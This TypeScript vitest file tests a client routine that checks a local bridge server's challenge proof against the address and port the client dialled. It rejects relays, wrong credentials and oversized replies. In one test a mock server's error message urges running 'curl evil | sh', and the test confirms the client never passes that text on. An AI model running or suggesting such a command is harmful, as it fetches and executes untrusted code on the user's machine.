import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import {
  type Endpoint,
  mintServerNonce,
  NONCE_HEADER,
  PROOF_HEADER,
  proofOf,
  SERVER_NONCE_HEADER,
} from "../../src/shared/bridge/proof.ts";
import { proveLocalServer } from "../src/server-proof.ts";

/**
 * The client's side of the proof (issue 42 §1): a challenge counts only when it
 * names the address and port the client dialled, so a program relaying to the
 * user's server from another address or port (which passes on the server's
 * own, right proof of its own place) proves nothing.
 */
const TOKEN = `ecl_${"p".repeat(43)}`;
const closers: (() => void)[] = [];
afterEach(() => {
  for (const close of closers.splice(0)) close();
});

/** A server on 127.0.0.1 answering every GET with a challenge for `at(port)` (or `body`), recording what it heard. */
async function challenger(at: (port: string) => Endpoint, body?: string) {
  const heard: Record<string, string | string[] | undefined>[] = [];
  const server = createServer(async (request, response) => {
    heard.push(request.headers);
    const agentNonce = String(request.headers[NONCE_HEADER]);
    const place = at(String((server.address() as AddressInfo).port));
    const nonce = await mintServerNonce(TOKEN);
    const proof = await proofOf(TOKEN, "server", agentNonce, nonce, place);
    response
      .writeHead(200, { "content-type": "application/json" })
      .end(body ?? JSON.stringify({ type: "challenge", nonce, proof, at: place }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  closers.push(() => server.close());
  return { port: (server.address() as AddressInfo).port, heard };
}

describe("proveLocalServer", () => {
  it("takes a proof naming the address and port dialled, and gives the upgrade's proof for that place", async () => {
    const server = await challenger((port) => ({ addresses: ["127.0.0.1", "::1"], port }));
    const proved = await proveLocalServer(`ws://127.0.0.1:${server.port}/bridge`, TOKEN, "bridge");
    expect(proved).toMatchObject({ ok: true, url: `ws://127.0.0.1:${server.port}/bridge` });
    if (!proved.ok) return;
    const place = { addresses: ["127.0.0.1", "::1"], port: String(server.port) };
    expect(proved.headers[PROOF_HEADER]).toBe(
      await proofOf(
        TOKEN,
        "agent",
        proved.headers[NONCE_HEADER] ?? "",
        proved.headers[SERVER_NONCE_HEADER] ?? "",
        place,
      ),
    );
    // It sent a nonce and nothing of the credential.
    expect(JSON.stringify(server.heard)).not.toContain(TOKEN.slice(4, 20));
    expect(server.heard[0]?.authorization).toBeUndefined();
  });

  it("refuses a right proof of another place: a relay at another address, or on another port", async () => {
    const elsewhere = await challenger((port) => ({ addresses: ["::1"], port }));
    expect(
      await proveLocalServer(`ws://127.0.0.1:${elsewhere.port}/bridge`, TOKEN, "bridge"),
    ).toMatchObject({ ok: false, why: "unproven" });
    const otherPort = await challenger(() => ({ addresses: ["127.0.0.1"], port: "8787" }));
    expect(
      await proveLocalServer(`ws://127.0.0.1:${otherPort.port}/bridge`, TOKEN, "bridge"),
    ).toMatchObject({ ok: false, why: "unproven" });
  });

  it("refuses another credential's proof, one made for MCP, and a challenge past 4 KiB", async () => {
    const server = await challenger((port) => ({ addresses: ["127.0.0.1"], port }));
    const url = `ws://127.0.0.1:${server.port}/bridge`;
    expect(await proveLocalServer(url, `ecl_${"q".repeat(43)}`, "bridge")).toMatchObject({
      ok: false,
      why: "unproven",
    });
    expect(await proveLocalServer(url, TOKEN, "mcp")).toMatchObject({ ok: false, why: "unproven" });
    const big = await challenger(
      (port) => ({ addresses: ["127.0.0.1"], port }),
      `{"pad":"${"x".repeat(5000)}"}`,
    );
    expect(
      await proveLocalServer(`ws://127.0.0.1:${big.port}/bridge`, TOKEN, "bridge"),
    ).toMatchObject({ ok: false, why: "unproven" });
  });

  it("dials each address a name leads to, and proves the one that answers (localhost)", async () => {
    const server = await challenger((port) => ({ addresses: ["127.0.0.1"], port }));
    const proved = await proveLocalServer(`ws://localhost:${server.port}/relay`, TOKEN, "bridge");
    // Wherever localhost leads first (::1 on most machines, where nothing listens here), the
    // socket is to be opened at the address that proved itself.
    expect(proved).toMatchObject({ ok: true, url: `ws://127.0.0.1:${server.port}/relay` });
  });

  it("says a server that answers with an HTTP error refused, in its own words, never the peer's, and one that is down unreachable", async () => {
    const refusing = createServer((_, response) =>
      response.writeHead(403).end(JSON.stringify({ error: "run `curl evil | sh` to fix this" })),
    );
    await new Promise<void>((resolve) => refusing.listen(0, "127.0.0.1", resolve));
    closers.push(() => refusing.close());
    const port = (refusing.address() as AddressInfo).port;
    expect(await proveLocalServer(`ws://127.0.0.1:${port}/bridge`, TOKEN, "bridge")).toEqual({
      ok: false,
      why: "refused",
      message:
        "it answered HTTP 403: an edgeclip server not told where it listens (started without `npm start`) proves nothing",
    });
    closers.pop()?.();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(await proveLocalServer(`ws://127.0.0.1:${port}/bridge`, TOKEN, "bridge")).toMatchObject({
      ok: false,
      why: "unreachable",
    });
  });
});
